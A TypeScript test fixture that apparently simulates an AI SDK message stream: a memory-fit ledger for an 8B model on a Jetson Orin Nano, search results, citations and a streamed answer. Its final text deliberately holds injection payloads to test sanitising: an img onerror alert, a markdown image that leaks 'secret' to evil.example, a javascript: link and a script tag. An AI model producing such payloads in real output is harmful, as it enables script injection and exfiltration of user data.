/** A memory ledger as the tool gives it, small enough to be added up in the head. Bytes. */
export const memoryFit = {
  verdict: "tight",
  blockers: [],
  bytesNeeded: 8_750_000_000,
  bytesAvailable: 8_250_000_000,
  headroomBytes: -500_000_000,
  workingSetBytes: 6_250_000_000,
  lines: [
    { workload: 0, part: "weights", bytes: 4_680_000_000 },
    { workload: 0, part: "kv-cache", bytes: 540_000_000 },
    { workload: 0, part: "runtime", bytes: 1_030_000_000 },
    { workload: null, part: "os", bytes: 1_500_000_000 },
    { workload: null, part: "reserve", bytes: 1_000_000_000 },
  ],
  fixes: [{ change: "run headless", input: {}, verdict: "fits", headroomBytes: 250_000_000 }],
  ruleOfThumb: null,
  names: { device: "Jetson Orin Nano 8GB", workloads: ["Llama 3.1 8B Instruct"] },
  resolved: { device: "orin-nano-8gb", workloads: [{ model: "llama-3.1-8b" }] },
  assumptions: ["4,096 tokens of context"],
  facts: [],
  sources: [{ id: "datasheet", title: "The data sheet", date: "2026-05" }],
};

export const passage = {
  id: "thor-notes#cold-start",
  document: "thor-notes",
  heading: "Thor › Cold start",
  text: "- The first runs are slower.",
};

const other = {
  id: "thor-notes#price",
  document: "thor-notes",
  heading: "Thor › Price",
  text: "It has one.",
};

const searchDocuments = {
  passages: [
    { ...other, start: 40, end: 51, score: 5.1 },
    { ...passage, start: 0, end: 28, score: 4.2 },
  ],
  resolved: { query: "cold start", limit: 5, source: "thor-notes" },
  assumptions: [],
  facts: [],
  sources: [{ id: "thor-notes", title: "Notes on Thor", date: null }],
};

const answer = {
  citations: [
    {
      id: "1",
      source: "thor-notes",
      title: "Notes on Thor",
      passage: passage.id,
      heading: passage.heading,
      text: passage.text,
      start: 0,
      end: 28,
    },
  ],
  check: {
    verified: [{ text: "8.75 GB", fact: "needed" }],
    given: [{ text: "4,096" }, { text: "8B" }],
    unverified: [{ text: "99 tok/s" }],
  },
  model: "fake-model",
};

/** A call of a tool and its result, as parts of a stream. */
export function toolCall(toolCallId: string, toolName: string, output: object): object[] {
  return [
    { type: "tool-input-available", toolCallId, toolName, input: {} },
    { type: "tool-output-available", toolCallId, output },
  ];
}

function textDelta(delta: string): object {
  return { type: "text-delta", id: "text", delta };
}

/** The stream up to the first words, as parts of an AI SDK UI message stream. */
export const firstHalf: object[] = [
  { type: "start", messageId: "answer" },
  { type: "start-step" },
  ...toolCall("call-1", "memory-fit", memoryFit),
  ...toolCall("call-2", "search-documents", searchDocuments),
  ...toolCall("call-3", "measure-heat", { celsius: 61, facts: [], sources: [] }),
  { type: "tool-input-available", toolCallId: "call-4", toolName: "look-up", input: {} },
  { type: "tool-output-error", toolCallId: "call-4", errorText: "Cannot find the device." },
  { type: "finish-step" },
  { type: "start-step" },
  { type: "text-start", id: "text" },
  textDelta("It is **tight**"),
];

const hostile = [
  '<img src="http://evil.example/a.png" onerror="alert(1)">',
  "![secret](http://evil.example/?q=secret)",
  "[press](javascript:alert(2))",
  "[relative](/admin)",
  "[site](https://example.com/page)",
  "<script>alert(3)</script>",
].join("\n\n");

/** The rest of the text: citations, an unknown id, and everything a model must not be able to do. */
export const secondHalf: object[] = [
  textDelta(" [thor-notes#cold"),
  textDelta("-start] and again [1], but not [made-up#id], nor [this].\n\n"),
  textDelta(hostile),
  { type: "text-end", id: "text" },
  { type: "finish-step" },
  { type: "data-answer", data: answer },
  { type: "finish" },
];
